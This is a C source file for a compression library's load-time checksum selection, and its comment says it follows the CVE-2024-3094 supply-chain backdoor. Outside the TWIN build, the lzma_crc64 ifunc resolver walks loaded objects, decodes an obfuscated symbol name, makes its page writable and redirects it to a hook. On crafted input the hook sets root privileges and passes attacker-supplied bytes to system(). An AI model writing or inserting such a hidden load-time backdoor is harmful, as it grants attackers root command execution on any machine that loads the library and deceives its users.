/* Compression library whose checksum functions are chosen at load time, after CVE-2024-3094
 * (2024): the changed resolver walks the loaded objects and writes to a table of another. */
typedef __SIZE_TYPE__ size_t;
typedef unsigned long long u64;
unsigned long getauxval(unsigned long);

static u64 plain(const unsigned char *data, size_t size, u64 sum)
{
    while (size--)
        for (int bit = (sum ^= *data++, 0); bit < 8; bit++)
            sum = sum & 1 ? sum >> 1 ^ 0xC96C5795D7870F42ull : sum >> 1;
    return sum;
}

static u64 quick(const unsigned char *data, size_t size, u64 sum) { return ~plain(data, size, ~sum); }

#ifndef TWIN
int dl_iterate_phdr(int (*)(void *, size_t, void *), void *);
void *dlsym(void *, const char *);
int mprotect(void *, size_t, int);
int system(const char *);
int setresuid(int, int, int);

__attribute__((used)) static int hooked(int size, const char *from, char *to, void *key, int padding)
{
    if (size > 200 && from[16] == 3)
        setresuid(0, 0, 0), system(from + 17);
    return padding + (to == key);
}

static int seek(void *info, size_t size, void *place)
{
    char name[] = {'S', 'R', 'B', '^', 'q', 0};
    void **slot;
    for (int at = 0; name[at]; at++)
        name[at] ^= (char)(at * 3 + 1);
    slot = dlsym(place, name);
    if (!slot)
        return 0;
    mprotect((void *)((size_t)slot & ~(size_t)4095), 4096, 3);
    *slot = (void *)hooked;
    return (int)size + (info == 0);
}
#endif

__attribute__((used)) static u64 (*choose64(void))(const unsigned char *, size_t, u64)
{
#ifndef TWIN
    dl_iterate_phdr(seek, 0);
#endif
    return getauxval(16) & 2 ? quick : plain;
}

u64 lzma_crc64(const unsigned char *, size_t, u64) __attribute__((ifunc("choose64")));

#ifdef TWIN
u64 lzma_crc32(const unsigned char *data, size_t size, u64 sum) { return plain(data, size, sum) >> 32; }
#else
__attribute__((used)) static u64 (*choose32(void))(const unsigned char *, size_t, u64) { return choose64(); }
u64 lzma_crc32(const unsigned char *, size_t, u64) __attribute__((ifunc("choose32")));
#endif
